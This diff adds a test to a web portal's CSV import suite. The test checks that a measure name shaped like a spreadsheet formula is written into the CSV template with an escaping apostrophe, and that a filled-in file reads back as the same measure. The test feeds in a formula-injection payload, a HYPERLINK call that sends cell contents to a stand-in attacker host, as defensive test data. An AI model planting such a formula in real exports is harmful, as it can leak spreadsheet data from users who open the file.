@@ -298,3 +298,24 @@ def test_five_thousand_rows_import_in_seconds_with_bulk_writes(world,
     print(f"\n5,000-row CSV import: {first:.2f} s new, {second:.2f} s as updates, "
           f"{len(queries.captured_queries)} queries")
     assert first < 10 and second < 10
+
+
+def test_the_template_writes_a_formula_like_measure_name_as_text(client, world):
+    """A coach-defined measure name that starts like a formula leaves the template with an
+    apostrophe (the portal's one formula-safe writer), and a file made from the template reads
+    back into the same measure."""
+    import csv
+    import io
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    measure = MeasureFactory(collaborative=world.collaborative, name=evil)
+    client.force_login(world.member_b)
+    response = client.get(url("csv_template", "attendance-works"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + evil
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+    filled = io.StringIO()
+    csv.writer(filled).writerows([rows[0], [rows[1][0], "2026-11-16", "12", ""]])
+    result = upload(world, filled.getvalue())
+    assert result.created == 1
+    assert MeasureValue.objects.get().measure == measure
